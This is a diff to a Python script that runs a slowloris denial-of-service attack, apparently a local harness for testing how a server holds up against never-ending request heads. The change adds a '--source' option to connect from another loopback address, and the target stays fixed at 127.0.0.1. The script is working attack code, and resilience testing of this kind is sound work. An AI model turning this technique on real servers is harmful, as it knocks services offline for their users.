@@ -2,7 +2,9 @@
 
 Each of N sockets sends a request head that never ends (a header line every 0.3 s) and connects again
 at once when the server closes it, for SECONDS; then the counts are printed as JSON. It only connects
-to 127.0.0.1. It raises its open-file limit to the hard one; N must fit in it.
+to 127.0.0.1, from ``--source`` (another loopback address such as 127.0.0.2 gives the attacker its
+own range of ports, as another host would have). It raises its open-file limit to the hard one; N
+must fit in it.
 """
 
 from __future__ import annotations
@@ -21,10 +23,11 @@ class Counts:
         self.held = 0
 
 
-async def _socket(port: int, stop: asyncio.Event, counts: Counts) -> None:
+async def _socket(port: int, source: str | None, stop: asyncio.Event, counts: Counts) -> None:
+    local = None if source is None else (source, 0)
     while not stop.is_set():
         try:
-            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=local)
         except OSError:
             counts.failed_connects += 1
             await asyncio.sleep(0.2)
@@ -49,11 +52,13 @@ async def _socket(port: int, stop: asyncio.Event, counts: Counts) -> None:
             writer.close()
 
 
-async def attack(port: int, connections: int, seconds: float) -> Counts:
+async def attack(port: int, connections: int, seconds: float, source: str | None = None) -> Counts:
     """Hold ``connections`` slowloris sockets against 127.0.0.1:``port`` for ``seconds``."""
+    if source is not None and not source.startswith("127."):
+        raise ValueError("--source must be a loopback address")
     counts = Counts()
     stop = asyncio.Event()
-    tasks = [asyncio.create_task(_socket(port, stop, counts)) for _ in range(connections)]
+    tasks = [asyncio.create_task(_socket(port, source, stop, counts)) for _ in range(connections)]
     await asyncio.sleep(seconds)
     stop.set()
     for t in tasks:
@@ -67,10 +72,11 @@ def main() -> None:
     parser.add_argument("port", type=int)
     parser.add_argument("connections", type=int)
     parser.add_argument("seconds", type=float)
+    parser.add_argument("--source", help="loopback address to connect from, e.g. 127.0.0.2")
     args = parser.parse_args()
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    counts = asyncio.run(attack(args.port, args.connections, args.seconds))
+    counts = asyncio.run(attack(args.port, args.connections, args.seconds, args.source))
     print(json.dumps(vars(counts)), flush=True)
 
 
